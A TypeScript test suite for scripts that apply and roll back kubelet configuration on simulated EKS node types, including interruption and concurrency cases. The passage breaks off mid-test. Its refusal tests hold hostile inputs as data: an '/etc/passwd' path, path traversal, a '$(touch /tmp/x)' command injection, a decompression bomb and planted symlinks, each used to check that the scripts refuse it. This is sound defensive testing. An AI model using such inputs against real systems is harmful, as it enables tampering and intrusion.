/** The scripts that change a node, run on pretend nodes of each OS family, and interrupted everywhere. */
import {
  chmodSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { applyPaths } from '#facts/aws/apply-documents.ts'
import { plannableSettings } from '#facts/eks/ami-defaults.ts'
import { logrotateDirectives } from '#facts/logrotate.ts'
import { ChangedNode, type Faults, packed, type Sent, sha256 } from '#test/changed-node.ts'
import { fill, mountAt, unmount } from '#test/full-disk.ts'
import { type NodeRoot, type Platform, platforms } from '#test/node-root.ts'
import { al2, al2023, bottlerocket, hybrid, ubuntu } from '#test/node-roots.ts'
import { isSlow } from '#test/slow.ts'

const here = platforms()
const first = here[0] as Platform
const generous = { timeout: 60_000 }
const kubeletConfig = 'Highwater-ApplyKubeletConfig'
const syncFile = 'Highwater-SyncFile'
const onBottlerocket = 'Highwater-ApplyBottlerocket'

const good = { imageGCHighThresholdPercent: 70, imageGCLowThresholdPercent: 50 }
/** As a remediation of real life wrote it: the kubelet exits, and `systemctl restart` ends well. */
const bad = { imageGCHighThresholdPercent: 70, imageGCLowThresholdPercent: 80 }

interface Family {
  family: string
  method: keyof typeof applyPaths
  path: string
  node: () => NodeRoot
  faults?: Faults
  /** The whole new file, of the old one. */
  content: (old: string | null, fields: object) => string
}

const edited = (old: string | null, fields: object) =>
  JSON.stringify({ ...JSON.parse(old ?? '{}'), ...fields }, null, 4)
const dropIn = (_: string | null, fields: object) =>
  `${JSON.stringify({ kind: 'KubeletConfiguration', apiVersion: 'kubelet.config.k8s.io/v1beta1', ...fields })}\n`
const nodeConfig = (_: string | null, fields: object) =>
  `# Written by highwater.\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n${Object.entries(
    fields,
  )
    .map(([name, value]) => `      ${name}: ${JSON.stringify(value)}\n`)
    .join('')}`
/** With a file as jq writes it; of another form a plan changes nothing. */
const ubuntuWithJson = (): NodeRoot => {
  const node = ubuntu()
  const content = {
    kind: 'KubeletConfiguration',
    apiVersion: 'kubelet.config.k8s.io/v1beta1',
    evictionHard: { 'nodefs.available': '10%' },
    podLogsDir: '/data/pods',
  }
  const path = '/etc/kubernetes/kubelet/kubelet-config.json'
  return { ...node, files: { ...node.files, [path]: JSON.stringify(content, null, 2) } }
}
const withNodeadm = (): NodeRoot => {
  const node = al2023()
  return {
    ...node,
    files: {
      ...node.files,
      '/run/eks/nodeadm/config.json': '{}',
      '/etc/kubernetes/kubelet/config.json.d/00-nodeadm.conf': '{}',
    },
    folders: [...(node.folders ?? []), '/etc/eks/nodeadm.d'],
  }
}
const families: Family[] = [
  {
    family: 'al2',
    method: 'kubelet-file',
    path: '/etc/kubernetes/kubelet/kubelet-config.json',
    node: al2,
    content: edited,
  },
  {
    family: 'al2023 with nodeadm.d',
    method: 'nodeadm',
    path: '/etc/eks/nodeadm.d/50-highwater.yaml',
    node: withNodeadm,
    content: nodeConfig,
  },
  {
    family: 'al2023 with --config-dir',
    method: 'drop-in',
    path: '/etc/kubernetes/kubelet/config.json.d/90-highwater.conf',
    node: () => al2023({ '40-nodeadm.conf': '{"maxPods":42}' }),
    content: dropIn,
  },
  {
    family: 'al2023 before that',
    method: 'kubelet-file',
    path: '/etc/kubernetes/kubelet/config.json',
    node: () => al2023(),
    content: edited,
  },
  {
    family: 'ubuntu',
    method: 'kubelet-file',
    path: '/etc/kubernetes/kubelet/kubelet-config.json',
    node: ubuntuWithJson,
    faults: { snap: true },
    content: edited,
  },
  {
    family: 'hybrid',
    method: 'drop-in',
    path: '/etc/kubernetes/kubelet/config.json.d/90-highwater.conf',
    node: hybrid,
    content: dropIn,
  },
]
const [onAl2, onNodeadm, onDropIn] = families as [Family, Family, Family]

interface Change {
  node: ChangedNode
  parameters: Record<string, string>
  old: string | null
  content: string
  send: (
    action: 'check' | 'apply' | 'rollback',
    changed?: Record<string, string>,
    environment?: Record<string, string>,
  ) => Promise<Sent>
}
const hashOrAbsent = (text: string | null) => (text === null ? 'absent' : sha256(text))

function changeOf(
  family: Family,
  fields: object | string = good,
  platform = first,
  faults: Faults = {},
): Change {
  const node = new ChangedNode(kubeletConfig, family.node(), platform, {
    ...family.faults,
    ...faults,
  })
  const old = node.read(family.path)
  const content = typeof fields === 'string' ? fields : family.content(old, fields)
  const parameters = {
    Run: 'run-00000001',
    Method: family.method,
    Path: family.path,
    OldSha256: hashOrAbsent(old),
    NewSha256: sha256(content),
    Content: packed(content),
    TimeoutSeconds: '60',
  }
  return sending(node, parameters, old, content)
}
function sending(
  node: ChangedNode,
  parameters: Record<string, string>,
  old: string | null,
  content: string,
): Change {
  const send: Change['send'] = (Action, changed = {}, environment = {}) =>
    node.send({ ...parameters, Action, ...changed }, environment)
  return { node, parameters, old, content, send }
}
const outcomeOf = ({ answer }: Sent) => answer?.outcome ?? 'no answer'
const reasonOf = ({ answer }: Sent) => answer?.reason
/** Beside the file, and of the locks: nothing may stay. */
const leftOvers = ({ root }: ChangedNode) =>
  ['etc', 'run', 'var/lib/highwater', '.bottlerocket'].flatMap(folder => {
    try {
      return readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).filter(name =>
        /(^|\/)(\..*\.(new|old)~|lock\..*|phase\.new)$/.test(name),
      )
    } catch {
      return []
    }
  })

describe('a good change', () => {
  const table = families.flatMap(family =>
    here
      .filter(platform => isSlow || platform === first || family === onAl2)
      .map(platform => ({ ...family, platform })),
  )
  it.each(table)(
    'on $family under $platform.name: applied once, kept, rolled back byte for byte',
    generous,
    async family => {
      const { node, send, old, content } = changeOf(family, good, family.platform)
      if (old !== null) chmodSync(node.at(family.path), 0o640)
      const before = node.everything()
      const ready = await send('check')
      expect(ready).toMatchObject({
        code: 0,
        stderr: '',
        answer: { outcome: 'ready', action: 'check', kubelet: { active: true, healthz: 'ok' } },
      })
      expect(node.everything()).toEqual(before)
      expect(node.read('/var/lib/highwater')).toBeNull()
      expect(node.restarts()).toBe(0)

      const applied = await send('apply')
      expect(applied).toMatchObject({
        code: 0,
        stderr: '',
        answer: {
          outcome: 'applied',
          reason: null,
          run: 'run-00000001',
          oldSha256: hashOrAbsent(old),
          newSha256: sha256(content),
          presentSha256: sha256(content),
          kubelet: {
            active: true,
            startedAtBefore: '2025-11-20T00:01:00Z',
            startedAtAfter: '2025-11-20T00:01:20Z',
            healthz: 'ok',
          },
        },
      })
      // The node itself, anew.
      expect(node.read(family.path)).toBe(content)
      expect(statSync(node.at(family.path)).mode & 0o7777).toBe(old === null ? 0o644 : 0o640)
      expect(node.running()).toMatchObject(good)
      expect(statSync(node.at('/var/lib/highwater/run-00000001')).mode & 0o777).toBe(0o700)

      for (const run of ['run-00000001', 'run-00000002'])
        expect(outcomeOf(await send('apply', { Run: run }))).toBe('unchanged')
      expect(node.restarts()).toBe(1)
      expect(leftOvers(node)).toEqual([])

      const back = await send('rollback')
      expect(back).toMatchObject({
        code: 0,
        stderr: '',
        answer: { outcome: 'restored', reason: null, presentSha256: hashOrAbsent(old) },
      })
      expect(node.everything()).toEqual(before)
      expect(node.running()).not.toMatchObject(good)
      expect(node.restarts()).toBe(2)
      expect(outcomeOf(await send('rollback'))).toBe('unchanged')
      // A late copy of the command does not do it again.
      expect(await send('apply')).toMatchObject({
        code: 3,
        answer: { outcome: 'refused', reason: 'this run was rolled back before' },
      })
      expect(node.everything()).toEqual(before)
      expect(node.restarts()).toBe(2)
      expect(leftOvers(node)).toEqual([])
    },
  )

  it('waits for a kubelet that takes 40 seconds, if there is time', generous, async () => {
    const { send, node } = changeOf(onAl2, good, first, { slow: 20 })
    // It is asked every two seconds.
    expect(outcomeOf(await send('apply', { TimeoutSeconds: '240' }))).toBe('applied')
    expect(node.running()).toMatchObject(good)
  })

  it('leaves containerd’s files alone, though nodeadm writes them', generous, async () => {
    const { send, node } = changeOf(onNodeadm)
    const before = node.read('/etc/containerd/config.toml')
    const { answer } = await send('apply')
    expect(answer?.steps).toContain(
      '/etc/containerd/config.toml was put back: nodeadm had written it, too',
    )
    expect(node.read('/etc/containerd/config.toml')).toBe(before)
    expect(node.read('/etc/eks/kubelet/environment')).toContain('--config-dir')
  })

  it(
    'made by nodeadm is rolled back by nodeadm, where a boot has made its files anew',
    generous,
    async () => {
      const { send, node } = changeOf(onNodeadm)
      await send('apply')
      writeFileSync(
        node.at('/etc/eks/kubelet/environment'),
        'NODEADM_KUBELET_ARGS=--config=/etc/kubernetes/kubelet/config.json --v=9\n',
      )
      const { answer } = await send('rollback')
      expect(answer).toMatchObject({
        outcome: 'restored',
        steps: expect.arrayContaining(['/etc/eks/kubelet/environment was made anew since']),
      })
      expect(node.read(onNodeadm.path)).toBeNull()
      expect(node.read('/etc/eks/kubelet/environment')).not.toContain('--v=9')
      expect(node.running()).not.toMatchObject(good)
    },
  )

  it('made by nodeadm is rolled back on a full disk of its own', generous, async () => {
    const { node, send } = changeOf(onNodeadm)
    if (!mountAt(node.at('etc'))) return
    try {
      const made = '/etc/kubernetes/kubelet/config.json.d/40-nodeadm.conf'
      // Larger than the room that the way back frees.
      const before = `${node.read(made)}${' '.repeat(20_000)}`
      writeFileSync(node.at(made), before)
      expect(outcomeOf(await send('apply'))).toBe('applied')
      expect(node.read(made)).not.toBe(before)
      fill(node.at('etc'))
      expect(outcomeOf(await send('rollback'))).toBe('restored')
      expect([node.read(made), node.read(onNodeadm.path)]).toEqual([before, null])
    } finally {
      unmount(node.at('etc'))
    }
  })

  it.each([
    { without: ['curl'], healthz: 'not asked: neither curl nor wget is on this node' },
    { without: [], healthz: 'not asked: it is switched off' },
  ])(
    'reports that its health could not be queried: $healthz',
    generous,
    async ({ without, healthz }) => {
      const al2Without = { ...onAl2, node: () => ({ ...al2(), missing: without }) }
      const { send } = changeOf(al2Without, good)
      const off = changeOf({
        ...onAl2,
        node: () =>
          withFiles(al2(), { [onAl2.path]: `{"kind":"KubeletConfiguration","healthzPort":0}` }),
      })
      const { answer } = await (without.length > 0 ? send : off.send)('apply')
      expect(answer).toMatchObject({ outcome: 'applied', kubelet: { active: true, healthz } })
    },
  )
})
const withFiles = (node: NodeRoot, files: NodeRoot['files']): NodeRoot => ({
  ...node,
  files: { ...node.files, ...files },
})

describe('a change that the kubelet does not take', () => {
  it.each(families.flatMap(family => [{ ...family, what: 'low over high', fields: bad }]))(
    'on $family, $what: the old one is back byte for byte, and the kubelet runs',
    generous,
    async ({ fields, ...family }) => {
      const { node, send, old } = changeOf(family, fields)
      const before = node.everything()
      const sent = await send('apply')
      expect(sent).toMatchObject({
        code: 4,
        stderr: '',
        answer: {
          outcome: 'restored',
          presentSha256: hashOrAbsent(old),
          kubelet: { active: true, healthz: 'ok' },
        },
      })
      expect(reasonOf(sent)).toMatch(
        /^the kubelet does not stay: it exits soon after each start|^nodeadm failed with exit code 1: /,
      )
      expect(node.everything()).toEqual(before)
      expect(node.readWorld('kubelet')).toBe('up\n')
      expect(node.running()).not.toMatchObject(bad)
      const restarts = node.restarts()
      const again = await send('apply')
      expect(again.answer).toMatchObject({
        outcome: 'restored',
        reason: expect.stringContaining('this run was taken back before: '),
      })
      expect(node.restarts()).toBe(restarts)
      expect(leftOvers(node)).toEqual([])
    },
  )

  it('nor the old one any more: broken, and the old file is there', generous, async () => {
    const { node, send } = changeOf(onAl2, good, first, { neverUp: true })
    const before = node.everything()
    const sent = await send('apply')
    expect(sent).toMatchObject({
      code: 5,
      answer: { outcome: 'broken', kubelet: { active: false } },
    })
    expect(reasonOf(sent)).toContain('is not well either')
    expect(node.everything()).toEqual(before)
    // As long as that is so, no other run is let in; the same one tries the way back again.
    expect(reasonOf(await send('apply', { Run: 'run-00000002' }))).toContain('broken off half-way')
    expect(outcomeOf(await send('apply'))).toBe('broken')
    renameSync(node.world('neverUp'), node.world('mended'))
    expect(outcomeOf(await send('apply'))).toBe('restored')
    expect(node.everything()).toEqual(before)
  })

  it('in time: one that is up but never well is taken back', generous, async () => {
    const { node, send } = changeOf(onAl2, good, first, { sick: true })
    const before = node.everything()
    const sent = await send('apply')
    expect(reasonOf(sent)).toMatch(/healthy: curl failed with/)
    expect(outcomeOf(sent)).toBe('restored')
    expect(node.everything()).toEqual(before)
  })

  it('for more than a moment', generous, async () => {
    const { node, send } = changeOf(onAl2, good, first, { flaps: true })
    const before = node.everything()
    const sent = await send('apply')
    expect(sent.answer).toMatchObject({
      outcome: 'restored',
      reason: 'the kubelet does not stay: it exits soon after each start',
    })
    expect(node.everything()).toEqual(before)
  })

  it('and its last log lines are reported without secrets', generous, async () => {
    const { node, send } = changeOf(onAl2, bad)
    const logLines = [
      'I1121 10:00:00.000000     900 server.go:440] "Kubelet version"',
      'E1121 10:00:01.000000     900 run.go:74] "command failed" err="failed to validate kubelet configuration, --token=hush-hush"',
      'I1121 10:00:02.000000     900 server.go:440] "Kubelet version"',
    ]
    node.tool(
      'journalctl',
      `case "$*" in *-u\\ kubelet.service*) cat <<'END'\n${logLines.join('\n')}\nEND\n;; *) exit 1 ;; esac`,
    )
    const sent = await send('apply')
    expect(sent.answer).toMatchObject({ outcome: 'restored' })
    expect(reasonOf(sent)).toMatch(/err="failed to validate/)
    expect(sent.stdout).not.toContain('hush-hush')
  })

  it('because it was started with another file, as far as a node can tell', generous, async () => {
    const { node, send } = changeOf(onAl2, good, first, { otherConfig: '/etc/other.json' })
    const before = node.everything()
    const sent = await send('apply')
    expect(sent.answer).toMatchObject({
      outcome: 'restored',
      reason:
        'the kubelet was started with --config=/etc/other.json, and does not read /etc/kubernetes/kubelet/kubelet-config.json',
    })
    expect(node.everything()).toEqual(before)
    // Where that is so from the beginning, nothing is begun.
    const sentNext = await send('check', { Run: 'run-00000002' })
    expect(sentNext.answer).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining('--config=/etc/other.json'),
    })
  })

  it('because nodeadm has made nothing of it', generous, async () => {
    const { node, send } = changeOf(onNodeadm, good, first, { nodeadmPassesOver: true })
    const before = node.everything()
    const sent = await send('apply')
    expect(sent.answer).toMatchObject({
      outcome: 'restored',
      reason: expect.stringMatching(
        /^nodeadm has not taken up imageGC(High|Low)ThresholdPercent:\d\d$/,
      ),
    })
    expect([node.restarts(), node.everything()]).toEqual([0, before])
  })

  it('because it was never started anew', generous, async () => {
    const { node, send } = changeOf(onAl2, good, first, { ignored: true })
    const before = node.everything()
    const sent = await send('apply')
    expect(sent.answer).toMatchObject({
      outcome: 'broken',
      reason: expect.stringContaining('was not started anew'),
    })
    expect(node.everything()).toEqual(before)
  })

  it(
    'by nodeadm: what it left half-way is back, and the kubelet was not started anew',
    generous,
    async () => {
      const { node, send } = changeOf(onNodeadm, good, first, { nodeadmFails: true })
      const before = node.everything()
      const sent = await send('apply')
      expect(sent.answer).toMatchObject({
        outcome: 'restored',
        reason: 'nodeadm failed with exit code 1: could not reach EC2',
      })
      expect(node.everything()).toEqual(before)
      expect(node.restarts()).toBe(0)
    },
  )

  it(
    'on a disk that is full by then: the old file goes back without any room',
    generous,
    async () => {
      const { node, send } = changeOf(onAl2, bad, first, { fullAtRestart: true })
      const before = node.everything()
      expect(outcomeOf(await send('apply'))).toBe('restored')
      expect(node.everything()).toEqual(before)
    },
  )
})

describe('what is refused, with nothing changed', () => {
  const other = '0'.repeat(64)
  const long = 'x'.repeat(140_000)
  it.each<[string, Record<string, string>, RegExp]>([
    ['another old file', { OldSha256: other }, /not what the plan was made for/],
    ['an old file where none should be', { OldSha256: 'absent' }, /not what the plan was made for/],
    ['content with another hash', { NewSha256: other }, /another hash than NewSha256/],
    ['no base64', { Content: 'H4sI=AAA' }, /no base64/],
    ['no gzip', { Content: 'H4sIAAAA' }, /another hash/],
    [
      'a bomb',
      {
        Content: packed('\0'.repeat(50_000_000)).slice(0, 24_000).replace(/.$/, '='),
        NewSha256: other,
      },
      /more than 131072 bytes|no base64/,
    ],
    ['too much', { Content: packed(long), NewSha256: sha256(long) }, /more than 131072 bytes/],
    ['too long a parameter', { Content: 'A'.repeat(24_004) }, /Content has a wrong length/],
    ['a path that is not of the list', { Path: '/etc/passwd' }, /not of the list/],
    [
      'a path out of it',
      { Path: '/etc/kubernetes/kubelet/../kubelet-config.json' },
      /not of the list/,
    ],
    ['a path of another method', { Method: 'drop-in' }, /not of the list/],
    ['a run with a path in it', { Run: '../../../etc' }, /Run holds a character/],
    ['a short run', { Run: 'run' }, /Run has a wrong length/],
    ['a command in a parameter', { OldSha256: '$(touch /tmp/x)' }, /OldSha256 holds a character/],
    ['an action that there is not', { Action: 'destroy' }, /none of check/],
    ['too short a time', { TimeoutSeconds: '59' }, /less than 60/],
    [
      'the same before and after',
      { NewSha256: 'a'.repeat(64), OldSha256: 'a'.repeat(64) },
      /are the same/,
    ],
  ])('%s', generous, async (_, changed, reason) => {
    const { node, send } = changeOf(onAl2)
    const before = node.everything()
    const sent = await send('apply', changed)
    expect(sent).toMatchObject({
      code: 3,
      stderr: '',
      answer: { outcome: 'refused', reason: expect.stringMatching(reason) },
    })
    expect(node.everything()).toEqual(before)
    expect(node.restarts()).toBe(0)
    expect(leftOvers(node)).toEqual([])
  })

  it.each([
    'Action',
    'Run',
    'Method',
    'Path',
    'OldSha256',
    'NewSha256',
    'Content',
    'TimeoutSeconds',
  ])('an agent that hands over no %s: it is too old', generous, async name => {
    const { node, parameters } = changeOf(onAl2)
    const rest = Object.fromEntries(
      Object.entries({ Action: 'apply', ...parameters }).filter(([given]) => given !== name),
    )
    const sent = await node.send(rest)
    expect(reasonOf(sent)).toBe(
      `the agent handed over no parameter ${name}: it is older than 3.3.2746.0`,
    )
    expect(sent).toMatchObject({ code: 3, answer: { outcome: 'refused' } })
  })

  const outside = 'outside/victim'
  const spoil: [string, (change: Change) => void, RegExp][] = [
    ['the file is a link', ({ node }) => linkTo(node, onAl2.path, outside), /is a link/],
    [
      'its folder is a link',
      ({ node }) => linkTo(node, '/etc/kubernetes/kubelet', 'outside'),
      /a link leads to another folder/,
    ],
    [
      'a folder above is a link',
      ({ node }) => linkTo(node, '/etc/kubernetes', 'outside'),
      /there is no folder|a link leads/,
    ],
    [
      'others may write into its folder',
      ({ node }) => chmodSync(node.at('/etc/kubernetes/kubelet'), 0o777),
      /others may write into/,
    ],
    ['it is a folder', ({ node }) => folderAt(node, onAl2.path), /is no file/],
    [
      'the place for what is kept is a link',
      ({ node }) => linkTo(node, '/var/lib/highwater', 'outside'),
      /is no folder/,
    ],
    [
      'the place of the run is a link',
      ({ node }) => linkTo(node, '/var/lib/highwater/run-00000001', 'outside', 0o700),
      /is no folder/,
    ],
    [
      'others may write there',
      ({ node }) => folderAt(node, '/var/lib/highwater', 0o777),
      /others may write into/,
    ],
    [
      'the file cannot be read',
      ({ node }) => node.tool('sha256sum', 'echo denied >&2; exit 1'),
      /cannot be read/,
    ],
    [
      'the disk is full',
      ({ node }) => node.tool('df', "echo x; echo '/dev/x 100 100 12 99% /'"),
      /less than 1 MiB is free/,
    ],
    [
      'the kubelet is down',
      ({ node }) => node.writeWorld('kubelet', 'down\n'),
      /the kubelet is not active/,
    ],
    [
      'it is not healthy',
      ({ node }) => node.writeWorld('slow', '9999999\n'),
      /not healthy: curl failed/,
    ],
    [
      'systemd knows none',
      ({ node }) => node.tool('systemctl', 'echo LoadState=not-found'),
      /systemd knows no kubelet/,
    ],
    [
      'the program sync is missing',
      ({ node }) => renameSync(join(dirname(node.root), 'bin/sync'), node.world('sync')),
      /program sync is not/,
    ],
  ]
  it.each(spoil)('%s', generous, async (_, spoils, reason) => {
    const change = changeOf(onAl2)
    const { node, send } = change
    mkdirSync(node.at('outside'))
    writeFileSync(node.at(outside), 'victim')
    spoils(change)
    const before = node.everything('')
    const sent = await send('apply')
    expect(sent).toMatchObject({
      code: 3,
      stderr: '',
      answer: { outcome: 'refused', reason: expect.stringMatching(reason) },
    })
    const { root } = node
    expect(
      Object.entries(node.everything('')).filter(
        ([path]) => path.startsWith('/etc') || path.startsWith('/outside'),
      ),
    ).toEqual(
      Object.entries(before).filter(
        ([path]) => path.startsWith('/etc') || path.startsWith('/outside'),
      ),
    )
    expect(readdirSync(join(root, 'outside'))).toEqual(expect.arrayContaining(['victim']))
    expect(node.restarts()).toBe(0)
  })

  it('a nodeadm that does not read the folder', generous, async () => {
    const { node, send } = changeOf(onNodeadm)
    const real = readFileSync(join(dirname(node.root), 'bin/systemctl'), 'utf8').replace(
      'file:///etc/eks/nodeadm.d/',
      'file:///etc/other/',
    )
    node.tool('systemctl', real)
    expect(reasonOf(await send('apply'))).toBe(
      "this node's nodeadm does not read /etc/eks/nodeadm.d",
    )
    expect(node.read(onNodeadm.path)).toBeNull()
  })

  it('links that lie in wait beside the file lead nowhere', generous, async () => {
    const { node, send, content } = changeOf(onAl2)
    mkdirSync(node.at('outside'))
    writeFileSync(node.at(outside), 'victim')
    for (const end of ['new', 'old'])
      symlinkSync(
        node.at(outside),
        node.at(`/etc/kubernetes/kubelet/.kubelet-config.json.run-00000001.${end}~`),
      )
    expect(outcomeOf(await send('apply'))).toBe('applied')
    expect(node.read(outside)).toBe('victim')
    expect(node.read(onAl2.path)).toBe(content)
    expect(leftOvers(node)).toEqual([])
  })

  it(
    'a rollback where another one wrote since, and of a run that never was: that one can never begin later',
    generous,
    async () => {
      const { node, send } = changeOf(onAl2)
      expect((await send('rollback')).answer).toMatchObject({
        outcome: 'unchanged',
        reason: 'this run changed nothing on this node',
      })
      expect(reasonOf(await send('apply'))).toBe('this run was rolled back before')
      await send('apply', { Run: 'run-00000002' })
      writeFileSync(node.at(onAl2.path), '{"kind":"KubeletConfiguration"}')
      const sent = await send('rollback', { Run: 'run-00000002' })
      expect(sent.answer).toMatchObject({
        outcome: 'refused',
        reason: 'what this run wrote is not there any more: another one wrote since',
      })
      expect(node.read(onAl2.path)).toBe('{"kind":"KubeletConfiguration"}')
      expect(
        reasonOf(
          await send('apply', {
            Run: 'run-00000002',
            Content: packed('x'),
            NewSha256: sha256('x'),
          }),
        ),
      ).toContain('another change before')
    },
  )
})

describe('a rollback of what the node does not know of, or what is back already', () => {
  it(
    'is refused where the new file is there, and nothing is kept of the old one',
    generous,
    async () => {
      const { node, send, content } = changeOf(onAl2)
      await send('apply')
      renameSync(node.at('/var/lib/highwater'), node.at('/var/lib/lost'))
      const sent = await send('rollback')
      expect(sent).toMatchObject({
        code: 3,
        answer: { outcome: 'refused', presentSha256: sha256(content) },
      })
      expect(reasonOf(sent)).toBe(
        'what this run was to write is there, and nothing is kept of what was there before',
      )
      expect(outcomeOf(await send('rollback'))).toBe('refused')
      expect(node.restarts()).toBe(1)
    },
  )

  it.each([onAl2, onNodeadm, onDropIn])(
    'on $family, put back by hand: the kubelet is started anew with it',
    generous,
    async family => {
      const { node, send, old } = changeOf(family)
      const before = node.everything()
      await send('apply')
      if (old === null) rmSync(node.at(family.path))
      else writeFileSync(node.at(family.path), old)
      expect(node.running()).toMatchObject(good)
      const sent = await send('rollback')
      expect(sent).toMatchObject({
        code: 0,
        answer: { outcome: 'restored', presentSha256: hashOrAbsent(old) },
      })
      expect(node.running()).not.toMatchObject(good)
      expect(node.restarts()).toBe(2)
      expect(node.everything()).toEqual(before)
      expect(leftOvers(node)).toEqual([])
    },
  )

  it(
    'says of a file that was there before the run that it is not the run’s',
    generous,
    async () => {
      const { node, send, content } = changeOf(onAl2)
      writeFileSync(node.at(onAl2.path), content)
      for (const action of ['check', 'apply'] as const)
        expect((await send(action)).answer).toMatchObject({
          outcome: 'unchanged',
          reason: 'this run changed nothing: it was there already',
        })
      expect(node.restarts()).toBe(0)
      const change = changeOf(onAl2)
      await change.send('apply')
      expect((await change.send('apply')).answer).toMatchObject({
        outcome: 'unchanged',
        reason: null,
      })
    },
  )
})
function linkTo(node: ChangedNode, path: string, target: string, mode = 0o755): void {
  mkdirSync(dirname(node.at(path)), { recursive: true, mode })
  try {
    renameSync(node.at(path), node.at(`${path}.moved`))
  } catch {
    // There was none.
  }
  symlinkSync(node.at(target), node.at(path))
}
function folderAt(node: ChangedNode, path: string, mode = 0o755): void {
  try {
    renameSync(node.at(path), node.at(`${path}.moved`))
  } catch {
    // There was none.
  }
  mkdirSync(node.at(path), { recursive: true })
  chmodSync(node.at(path), mode)
}

describe('two at once', () => {
  it('one does it, and the other one is refused', generous, async () => {
    const { node, send, content } = changeOf(onAl2)
    const rivals = edited(node.read(onAl2.path), { ...good, imageGCHighThresholdPercent: 75 })
    const sent = await Promise.all([
      send('apply'),
      send('apply', { Run: 'run-00000002', Content: packed(rivals), NewSha256: sha256(rivals) }),
    ])
    expect(sent.map(outcomeOf).toSorted()).toEqual(['applied', 'refused'])
    const isFirst = sent[0] !== undefined && outcomeOf(sent[0]) === 'applied'
    expect(node.read(onAl2.path)).toBe(isFirst ? content : rivals)
    expect(node.restarts()).toBe(1)
    expect(leftOvers(node)).toEqual([])
  })
})

/** Two at a time: more would be slower here. */
async function inPairs<Result>(
  from: number,
  to: number,
  by: number,
  work: (index: number) => Promise<Result>,
): Promise<Result[]> {
  const results: Result[] = []
  let next = from
  const worker = async () => {
    while (next <= to) {
      const index = next
      next += by
      results[(index - from) / by] = await work(index)
    }
  }
  await Promise.all([worker(), worker()])
  return results
}

describe('broken off on its way', () => {
  /** Each row runs two whole scripts on a node of its own, so only `npm run test:slow` takes each step. */
  const stride = isSlow ? 1 : 5
  /** How many steps it has, and where those begin that the kubelet may notice. */
  const acts = async (change: Change) => {
    change.node.endAfter(0)
    await change.send('apply')
    return { count: change.node.acted(), noticed: Number(change.node.readWorld('quiet')) - 2 }
  }
  it.each([
    {
      family: 'al2',
      of: onAl2,
      fields: good,
      next: 'apply' as const,
      all: true,
      ends: /^applied$|^unchanged$/,
    },
    {
      family: 'al2023 with nodeadm.d',
      of: onNodeadm,
      fields: good,
      next: 'apply' as const,
      all: false,
      ends: /^applied$|^unchanged$/,
    },
    {
      family: 'al2023 with --config-dir',
      of: onDropIn,
      fields: good,
      next: 'rollback' as const,
      all: true,
      ends: /^restored$|^unchanged$/,
    },
    {
      family: 'al2, a bad one',
      of: onAl2,
      fields: bad,
      next: 'apply' as const,
      all: false,
      ends: /^restored$/,
    },
  ])(
    '$family, and sent again ($next): whole, and either old or new',
    { timeout: 600_000 },
    async ({ of, fields, next, all, ends }) => {
      const { count, noticed } = await acts(changeOf(of, fields))
      // Before that, the first table has them all.
      const from = all ? 1 : noticed
      expect(noticed).toBeGreaterThan(10)
      expect(count - from).toBeGreaterThan(10)
      const table = await inPairs(from, count, stride, async at => {
        const { node, send, old, content } = changeOf(of, fields)
        const before = node.everything()
        node.endAfter(at)
        const broken = await send('apply')
        const between = node.read(of.path)
        node.endAfter(0)
        const sent = await send(next)
        const isNew = next === 'apply' && fields === good
        return {
          at,
          killed: broken.code,
          isWhole: between === old || between === content,
          outcome: ends.test(outcomeOf(sent)) || sent.stdout,
          stderr: sent.stderr,
          file: node.read(of.path) === (isNew ? content : old),
          others: isNew || JSON.stringify(node.everything()) === JSON.stringify(before),
          kubelet: node.readWorld('kubelet'),
          runs: !isNew || node.running() !== null,
          left: leftOvers(node),
        }
      })
      expect(table.filter(({ killed }) => killed === null).length).toBeGreaterThan(10 / stride)
      for (const row of table)
        expect(row).toEqual({
          ...row,
          isWhole: true,
          outcome: true,
          stderr: '',
          file: true,
          others: true,
          kubelet: 'up\n',
          runs: true,
          left: [],
        })
    },
  )

  it('a rollback, and sent again: the old one', { timeout: 600_000 }, async () => {
    const applied = async () => {
      const change = changeOf(onDropIn)
      const before = change.node.everything()
      await change.send('apply')
      return { ...change, before }
    }
    const whole = await applied()
    whole.node.endAfter(0)
    await whole.send('rollback')
    const table = await inPairs(1, whole.node.acted(), stride, async at => {
      const { node, send, before } = await applied()
      node.endAfter(at)
      await send('rollback')
      node.endAfter(0)
      // Whatever is sent then, it does not go back to the new one.
      const action = at % (2 * stride) === 1 ? 'rollback' : 'apply'
      const outcome = outcomeOf(await send(action))
      const isBack = JSON.stringify(node.everything()) === JSON.stringify(before)
      return {
        at,
        outcome: `${action} ${outcome}`,
        isBack,
        isNew: node.read(onDropIn.path) !== null,
        kubelet: node.readWorld('kubelet'),
        left: leftOvers(node),
      }
    })
    // Before its first mark it was not begun.
    const notBegun = table.filter(({ outcome }) => outcome === 'apply unchanged')
    expect(notBegun.length).toBeLessThan(6)
    for (const row of table)
      expect(row).toEqual({
        ...row,
        ...(notBegun.includes(row) ? { isNew: true } : { isBack: true }),
        outcome: expect.stringMatching(
          /^rollback (restored|unchanged)$|^apply (restored|unchanged|refused)$/,
        ),
        kubelet: 'up\n',
        left: [],
      })
  })

  it('by a signal: it takes back by itself what it had begun, and says so', {
    timeout: 120_000,
  }, async () => {
    const { count } = await acts(changeOf(onAl2))
    const table = await inPairs(1, count, 1, async at => {
      const { node, send, old, content } = changeOf(onAl2)
      node.endAfter(at, 'TERM')
      const sent = await send('apply')
      const outcome = outcomeOf(sent)
      return {
        at,
        outcome,
        reason: reasonOf(sent) ?? '',
        file: node.read(onAl2.path) === (outcome === 'applied' ? content : old),
        kubelet: node.readWorld('kubelet'),
        left: leftOvers(node),
      }
    })
    for (const row of table)
      expect(row).toEqual({
        ...row,
        outcome: expect.stringMatching(/^(failed|restored|applied)$/),
        file: true,
        kubelet: 'up\n',
        left: [],
      })
    expect(new Set(table.map(({ outcome }) => outcome))).toEqual(
      new Set(['failed', 'restored', 'applied']),
    )
    for (const { outcome, reason } of table)
      if (outcome !== 'applied') expect(reason).toContain('the script was told to end')
  })

  it('by a disk that gets full at each write: nothing was changed', generous, async () => {
    const outcomes: string[] = []
    for (let at = 1; at < 10; at++) {
      const { node, send } = changeOf(onNodeadm)
